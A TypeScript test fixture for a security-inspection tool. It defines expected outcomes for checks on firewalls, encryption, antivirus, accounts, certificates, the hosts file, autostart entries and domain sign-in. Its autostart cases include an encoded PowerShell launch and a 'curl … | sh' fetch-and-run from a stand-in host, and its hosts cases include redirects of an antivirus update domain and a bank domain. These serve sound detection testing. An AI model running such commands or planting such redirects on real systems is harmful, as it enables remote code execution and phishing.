import type {
  Antivirus,
  Certificate,
  CheckOutcome,
  RemoteTool,
  ScheduledTask,
  StartupItem,
} from '@shared/domain/inspection';
import type { CheckId } from '@shared/texts';
import type { FactMap, PasswordState, PlatformFeature } from '../../../../../electron/probes/facts';
import { unavailable } from '../../../../../electron/probes/reading';
import { clock, identity } from '../check-facts';
import { fact, inDays, refused } from '../facts';
import type { Cases, SomeFacts } from '../facts';
import { joined } from './domain';

const os = (name: string): SomeFacts => ({ os: fact({ name, version: null, kernel: null, arch: null }) });
const scanner = (...products: Partial<Antivirus>[]): SomeFacts => ({
  antivirus: fact(
    products.map((more, index) => ({
      name: `Scanner ${String(index)}`,
      version: null,
      enabled: true,
      upToDate: true,
      signatureVersion: null,
      signatureAgeDays: 1,
      passive: false,
      tamperProtected: true,
      activeThreats: [],
      ...more,
    })),
  ),
});
const encrypted = (
  state: FactMap['encryption'][number]['state'],
  chassis: string | null,
  hypervisor: string | null = null,
): SomeFacts => ({
  encryption: fact([{ volume: '/', system: true, state, method: null, protectors: [] }]),
  identity: fact(identity(chassis)),
  hypervisor: fact(hypervisor),
});
const wall = (...profiles: [string, boolean | null][]): SomeFacts => ({
  firewall: fact({
    active: profiles.every(([, active]) => active === true),
    product: 'Windows Defender Firewall',
    rules: null,
    profiles: profiles.map(([name, active]) => ({ name, active })),
  }),
});
const feature = (
  name: PlatformFeature['feature'],
  state: PlatformFeature['state'],
  hypervisor: string | null = null,
): SomeFacts => ({
  platformSecurity: fact([{ feature: name, state, detail: null }]),
  hypervisor: fact(hypervisor),
});
const accounts = (more: Partial<FactMap['accountSecurity']>): SomeFacts => ({
  accountSecurity: fact({
    admins: ['ada'],
    autoLogon: null,
    guestEnabled: false,
    remoteDesktop: false,
    remoteShell: false,
    rootRemoteShell: false,
    smb1: false,
    withoutPassword: [],
    ...more,
  }),
});
const certificate = (days: number, more: Partial<Certificate> = {}): SomeFacts => ({
  certificates: fact([
    {
      subject: 'CN=host',
      issuer: 'CN=ca',
      expiresAt: inDays(days),
      store: 'My',
      usage: ['server'],
      inUse: true,
      ...more,
    },
  ]),
});
const tool = (more: Partial<RemoteTool>): SomeFacts => ({
  remoteTools: fact([
    { name: 'AnyDesk', version: '8.0.9', id: '123456789', running: false, unattended: false, ...more },
  ]),
});
const hosts = (address: string, ...names: string[]): SomeFacts => ({
  hostsFile: fact({ entries: [{ address, names }] }),
});
const starts = (command: string, more: Partial<StartupItem> = {}, tasks: ScheduledTask[] = []): SomeFacts => ({
  startupItems: fact([{ name: 'Item', command, source: 'registry', enabled: true, signed: null, ...more }]),
  scheduledTasks: fact(tasks),
});
const task = (command: string, enabled = true): ScheduledTask => ({
  name: 'Task',
  command,
  schedule: null,
  enabled,
  lastRunAt: null,
  lastResult: null,
  user: null,
});
const member = { join: joined('domain') };
const alone = { join: joined('workgroup') };
const controllers = (...open: boolean[][]): SomeFacts => ({
  domainControllers: fact(
    open.map((ports, index) => ({
      name: `dc${String(index)}.corp.example`,
      domain: 'corp.example',
      ports: ports.map((one, at) => ({ port: [88, 135, 389, 445][at] ?? 0, open: one })),
    })),
  ),
  ...member,
});
const trust = (trusted: boolean | null): SomeFacts => ({
  secureChannel: fact({ domain: 'corp.example', trusted, detail: null }),
  ...member,
});
const ticket = (more: Partial<FactMap['kerberos']>): SomeFacts => ({
  kerberos: fact({ ticket: 'valid', expiresAt: inDays(0.3), skewSeconds: 0, errors: [], ...more }),
  ...member,
});
const policy = (days: number | null, errors = 0): SomeFacts => ({
  groupPolicy: fact({
    lastSuccessAt: days === null ? null : inDays(-days),
    errors,
    latest: errors === 0 ? null : '1058',
  }),
  ...member,
});
const profiles = (more: Partial<FactMap['userProfiles']>): SomeFacts => ({
  userProfiles: fact({ temporary: [], damaged: [], warnings: 0, ...more }),
});
const password = (more: Partial<PasswordState>): SomeFacts => ({
  passwords: fact([
    {
      user: 'ada',
      current: true,
      expiresAt: inDays(60),
      neverExpires: false,
      mustChange: false,
      lockedOut: false,
      failedSignIns: 0,
      ...more,
    },
  ]),
});
const cloud = (more: Partial<FactMap['join']> = {}): SomeFacts => ({ join: joined('entra', more) });

export const SECURITY_CASES = {
  'sec.firewall': [
    ['pass', { firewall: fact({ active: true, product: 'ufw', rules: null }) }],
    ['warn', { firewall: fact({ active: false, product: 'ufw', rules: null }), identity: fact(identity('desktop')) }],
    ['fail', { firewall: fact({ active: false, product: 'nftables', rules: 0 }), identity: fact(identity('laptop')) }],
    ['pass', wall(['Domain', true], ['Private', true], ['Public', true])],
    ['warn', wall(['Domain', true], ['Private', false], ['Public', true])],
    ['fail', wall(['Domain', true], ['Private', true], ['Public', false])],
    ['couldNotRun', wall(['Domain', null], ['Private', true], ['Public', true])],
    ['couldNotRun', { firewall: refused('nft') }],
  ],
  'sec.encryption': [
    ['pass', encrypted('on', 'laptop')],
    ['warn', encrypted('off', 'desktop')],
    ['warn', encrypted('suspended', 'laptop')],
    ['warn', encrypted('encrypting', 'laptop')],
    ['warn', encrypted('decrypting', 'laptop')],
    ['fail', encrypted('off', 'laptop')],
    ['couldNotRun', encrypted('unknown', 'laptop')],
    ['couldNotRun', { encryption: fact([]), identity: fact(identity('desktop')), hypervisor: fact(null) }],
    ['couldNotRun', { encryption: refused('manage-bde') }],
    ['notApplicable', encrypted('off', null, 'KVM')],
  ],
  // Off is a choice on many machines: there is no failure.
  'sec.secureboot': [
    ['pass', { identity: fact(identity(null)) }],
    ['warn', { identity: fact(identity(null, { secureBoot: false })) }],
    ['warn', { identity: fact(identity(null, { secureBoot: null, mode: 'bios' })) }],
    ['couldNotRun', { identity: fact(identity(null, { secureBoot: null })) }],
    [
      'couldNotRun',
      {
        identity: fact(identity(null, { secureBoot: null }), [
          { what: 'firmware.secureBoot', reason: 'notSupported' as const },
        ]),
      },
    ],
    ['notApplicable', { identity: fact(identity(null, null)), hypervisor: fact('KVM') }],
  ],
  'sec.tpm': [
    ['pass', { identity: fact(identity(null)) }],
    ['warn', { identity: fact(identity(null, { tpmVersion: '1.2' })) }],
    ['warn', { identity: fact(identity(null, { tpmReady: false })) }],
    ['fail', { identity: fact(identity(null, { tpmVersion: null })), ...os('Microsoft Windows 11 Pro') }],
    ['couldNotRun', { identity: fact(identity(null, { tpmVersion: '7' })) }],
    [
      'couldNotRun',
      {
        identity: fact(identity(null, { tpmVersion: null }), [
          { what: 'firmware.tpmReady', reason: 'notPermitted' as const },
        ]),
        ...os('Microsoft Windows 11 Pro'),
      },
    ],
    ['notApplicable', { identity: fact(identity(null, { tpmVersion: null })) }],
    ['notApplicable', { identity: fact(identity(null, { tpmVersion: null })), ...os('macOS') }],
  ],
  'idn.time': [
    ['pass', clock(-1.9)],
    ['warn', clock(2)],
    ['warn', clock(-299)],
    ['fail', clock(3600)],
    ['fail', clock(-300)],
    ['couldNotRun', { clock: unavailable('noSource', '') }],
  ],
  'sec.av': [
    ['pass', scanner({})],
    ['pass', scanner({ signatureAgeDays: 3 })],
    ['pass', scanner({ signatureAgeDays: null })],
    // Defender steps back for another product: healthy.
    ['pass', scanner({}, { enabled: false, passive: null }, { passive: true })],
    ['pass', scanner({ name: 'XProtect', signatureAgeDays: 40 })],
    ['warn', scanner({ signatureAgeDays: 4 })],
    ['warn', scanner({ signatureAgeDays: 7 })],
    ['warn', scanner({ signatureAgeDays: null, upToDate: false })],
    ['warn', { ...scanner({ enabled: false }), ...os('Debian GNU/Linux 12') }],
    ['fail', scanner({ signatureAgeDays: 8 })],
    ['fail', scanner({ enabled: false })],
    ['fail', scanner({ passive: true })],
    ['fail', scanner({ activeThreats: ['EICAR'] })],
    ['fail', { antivirus: fact([]), ...os('Microsoft Windows 11 Pro') }],
    ['couldNotRun', scanner({ enabled: null })],
    ['couldNotRun', scanner({ upToDate: null, signatureAgeDays: null })],
    ['couldNotRun', { antivirus: fact([]) }],
    ['notApplicable', { antivirus: fact([]), ...os('Debian GNU/Linux 12') }],
  ],
  // None of these being off is a fault by itself: there is no failure.
  'sec.platform': [
    ['pass', feature('sip', 'on')],
    ['warn', feature('sip', 'off')],
    ['warn', feature('vulnerabilities', 'off')],
    [
      'warn',
      {
        platformSecurity: fact([
          { feature: 'memoryIntegrity' as const, state: 'off' as const, detail: 'configured, but not running' },
        ]),
      },
    ],
    ['couldNotRun', feature('gatekeeper', 'unknown')],
    ['notApplicable', feature('vulnerabilities', 'off', 'KVM')],
    ['notApplicable', feature('credentialGuard', 'off')],
    ['notApplicable', feature('lockdown', 'off')],
  ],
  'sec.accounts': [
    ['pass', accounts({})],
    ['pass', accounts({ remoteDesktop: true, remoteShell: true, guestEnabled: null, smb1: null })],
    ['pass', accounts({ admins: ['a', 'b', 'c', 'd'] })],
    ['warn', accounts({ admins: ['a', 'b', 'c', 'd', 'e'] })],
    ['warn', accounts({ guestEnabled: true })],
    ['warn', accounts({ rootRemoteShell: true })],
    ['warn', accounts({ withoutPassword: ['kiosk'] })],
    ['fail', accounts({ withoutPassword: ['kiosk'], remoteShell: true })],
    ['fail', accounts({ autoLogon: 'ada' })],
    ['fail', accounts({ smb1: true })],
    ['couldNotRun', accounts({ admins: [] })],
    ['couldNotRun', { accountSecurity: refused('net') }],
  ],
  'sec.certs': [
    ['pass', certificate(30.1)],
    ['warn', certificate(30)],
    ['warn', certificate(0.5)],
    ['warn', certificate(-3, { inUse: false })],
    ['warn', certificate(-3, { inUse: null })],
    ['fail', certificate(-3)],
    ['fail', certificate(0)],
    ['fail', certificate(-3, { usage: ['authority'] })],
    ['couldNotRun', certificate(1, { expiresAt: 'soon' })],
    ['couldNotRun', { certificates: refused('certutil') }],
    ['notApplicable', { certificates: fact([]) }],
    ['notApplicable', certificate(-900, { usage: ['authority'], inUse: null })],
    ['notApplicable', certificate(-1, { issuer: 'CN=MS-Organization-P2P-Access [2026]' })],
  ],
  // Most are wanted, and only the owner knows: there is no failure.
  'sec.remote': [
    ['pass', { remoteTools: fact([]) }],
    ['pass', tool({})],
    ['pass', tool({ name: 'OpenSSH', unattended: true, running: true })],
    ['warn', tool({ unattended: true, running: true })],
    ['warn', tool({ unattended: null, running: true })],
    ['couldNotRun', tool({ unattended: null })],
    ['couldNotRun', { remoteTools: unavailable('timedOut', '', [], 'powershell.exe') }],
  ],
  'sec.hosts': [
    ['pass', { hostsFile: fact({ entries: [] }) }],
    ['pass', hosts('192.0.2.7', 'host.docker.internal', 'gateway.docker.internal')],
    ['pass', hosts('127.0.0.1', 'workshop', 'terminal-3')],
    ['warn', hosts('127.0.0.1', 'shop.example')],
    ['warn', hosts('192.0.2.7', 'nas')],
    ['warn', hosts('0.0.0.0', 'telemetry.example')],
    ['fail', hosts('127.0.0.1', 'Definitions.Kaspersky.com')],
    ['fail', hosts('203.0.113.9', 'www.sparkasse.de')],
    ['warn', hosts('203.0.113.9', 'notavast.com.example')],
    ['couldNotRun', { hostsFile: refused('hosts') }],
  ],
  'sec.autostart': [
    ['pass', starts('"C:\\Program Files\\Vendor\\tool.exe" /min')],
    ['pass', starts('"%LocalAppData%\\Microsoft\\OneDrive\\OneDrive.exe" /background')],
    ['pass', starts('/usr/libexec/gsd-power', { source: 'autostart' })],
    ['pass', starts('C:\\Users\\a\\AppData\\Roaming\\x\\x.exe', { enabled: false })],
    ['pass', { ...starts('/usr/bin/x'), scheduledTasks: unavailable('notSupported', '') }],
    ['warn', starts('C:\\Users\\a\\AppData\\Roaming\\x\\x.exe')],
    ['warn', starts('C:\\Program Files\\x\\x.exe', { signed: false })],
    ['warn', starts('C:\\Windows\\Temp\\x.exe', { signed: true })],
    ['warn', starts('/usr/bin/x', {}, [task('powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A')])],
    ['warn', starts('/usr/bin/x', {}, [task('sh -c "curl http://x.example/a | sh"')])],
    ['fail', starts('C:\\Users\\a\\AppData\\Local\\Temp\\x.exe')],
    ['fail', starts('C:\\Users\\a\\AppData\\Roaming\\x\\x.exe', { signed: false })],
    ['fail', starts('/usr/bin/x', {}, [task('/tmp/.hidden/run')])],
    ['pass', starts('/usr/bin/x', {}, [task('/tmp/.hidden/run', false)])],
    ['couldNotRun', { ...starts('/usr/bin/x'), scheduledTasks: refused('schtasks') }],
    ['couldNotRun', { startupItems: refused('reg') }],
  ],
  'idn.join': [
    ['pass', member],
    ['pass', { join: joined('hybrid') }],
    ['pass', cloud()],
    ['pass', { join: joined('registered') }],
    ['warn', cloud({ primaryRefreshToken: false })],
    ['fail', cloud({ deviceAuthStatus: 'FAILED. Device is either disabled or deleted' })],
    ['couldNotRun', cloud({ deviceAuthStatus: null })],
    ['couldNotRun', { join: joined('unknown') }],
    ['notApplicable', alone],
  ],
  // The domain trusts the machine or does not: there is no warning.
  'idn.channel': [
    ['pass', trust(true)],
    ['fail', trust(false)],
    ['couldNotRun', trust(null)],
    ['couldNotRun', { secureChannel: refused('nltest'), ...member }],
    ['notApplicable', { secureChannel: fact(null) }],
    ['notApplicable', { secureChannel: refused('nltest'), ...alone }],
  ],
  'idn.dc': [
    ['pass', controllers([true, true, true, true])],
    ['warn', controllers([true, true, true, false])],
    ['warn', controllers([true, true, true, true], [false, false, false, false])],
    ['warn', { ...controllers([false, false]), identity: fact(identity('laptop')) }],
    ['fail', { ...controllers([false, false]), identity: fact(identity('desktop')) }],
    ['fail', { ...controllers(), identity: fact(identity('desktop')) }],
    [
      'fail',
      {
        ...controllers(),
        identity: fact(identity('laptop')),
        networkProfiles: fact([{ adapter: 'a', name: null, category: 'domain' as const }]),
      },
    ],
    ['couldNotRun', controllers([])],
    ['couldNotRun', { domainControllers: refused('nltest'), ...member }],
    ['notApplicable', { domainControllers: fact([]), ...alone }],
  ],
  'idn.kerberos': [
    ['pass', ticket({})],
    ['pass', ticket({ skewSeconds: -119 })],
    ['pass', ticket({ skewSeconds: null, errors: [{ code: 'KDC_ERR_PREAUTH_REQUIRED', count: 9 }] })],
    ['warn', ticket({ skewSeconds: 120 })],
    ['warn', ticket({ ticket: 'none' })],
    ['warn', ticket({ ticket: 'expired' })],
    ['fail', ticket({ skewSeconds: -300 })],
    ['fail', ticket({ errors: [{ code: 'KRB_AP_ERR_MODIFIED', count: 1 }] })],
    ['couldNotRun', { ...ticket({ ticket: 'none' }), ...controllers([false]) }],
    ['couldNotRun', { kerberos: refused('klist'), ...member }],
    ['notApplicable', { kerberos: refused('klist'), ...alone }],
  ],
  'idn.gpo': [
    ['pass', policy(0.5)],
    ['pass', policy(1)],
    ['pass', policy(0.5, 2)],
    ['warn', policy(1.1)],
    ['warn', policy(7)],
    ['warn', policy(0.5, 3)],
    ['warn', { ...policy(30), ...controllers([false]) }],
    ['fail', policy(7.1)],
    ['fail', policy(2, 3)],
    ['fail', policy(null, 3)],
    ['couldNotRun', policy(null)],
    ['couldNotRun', policy(-30)],
    ['notApplicable', { groupPolicy: refused('wevtutil'), ...alone }],
    ['notApplicable', { groupPolicy: unavailable('notSupported', ''), ...member, ...os('Debian GNU/Linux 12') }],
  ],
  'idn.profile': [
    ['pass', profiles({})],
    ['pass', profiles({ warnings: 4 })],
    ['warn', profiles({ warnings: 5 })],
    ['fail', profiles({ temporary: ['TEMP'] })],
    ['fail', profiles({ damaged: ['ada'] })],
    ['couldNotRun', profiles({ warnings: Number.NaN })],
    ['couldNotRun', { userProfiles: refused('wevtutil') }],
    ['notApplicable', { userProfiles: unavailable('notSupported', ''), ...os('macOS') }],
  ],
  'idn.password': [
    ['pass', password({ expiresAt: inDays(14.1) })],
    ['pass', password({ expiresAt: null, neverExpires: true })],
    ['warn', password({ expiresAt: inDays(14) })],
    ['warn', password({ current: false, expiresAt: inDays(-100) })],
    ['warn', password({ current: false, mustChange: true })],
    ['fail', password({ expiresAt: inDays(-0.1) })],
    ['fail', password({ mustChange: true })],
    ['couldNotRun', password({ expiresAt: null, neverExpires: null })],
    ['couldNotRun', { passwords: refused('chage') }],
    ['notApplicable', { passwords: fact([]) }],
  ],
  'idn.lockout': [
    ['pass', password({})],
    ['pass', password({ failedSignIns: 4 })],
    ['warn', password({ failedSignIns: 5 })],
    ['fail', password({ lockedOut: true, current: false })],
    ['couldNotRun', password({ lockedOut: null })],
    ['notApplicable', { passwords: fact([]) }],
  ],
  'idn.sso': [
    ['pass', { ...cloud(), ...clock(1), identity: fact(identity('laptop')) }],
    ['pass', { ...cloud({ windowsHello: false }) }],
    ['warn', { ...cloud(), identity: fact(identity('laptop', { tpmVersion: '1.2' })) }],
    ['warn', { ...cloud(), identity: fact(identity('laptop', { tpmReady: false })) }],
    ['fail', cloud({ primaryRefreshToken: false })],
    ['fail', cloud({ deviceAuthStatus: 'FAILED' })],
    ['fail', { ...cloud(), ...clock(-300) }],
    ['couldNotRun', cloud({ primaryRefreshToken: null })],
    ['couldNotRun', { join: joined('unknown') }],
    ['notApplicable', alone],
    ['notApplicable', member],
  ],
} satisfies Readonly<Partial<Record<CheckId, Cases>>>;

export const SECURITY_CANNOT = {
  'sec.secureboot': ['fail'],
  'sec.platform': ['fail'],
  'sec.remote': ['fail'],
  'idn.channel': ['warn'],
} satisfies Readonly<Partial<Record<CheckId, readonly CheckOutcome[]>>>;
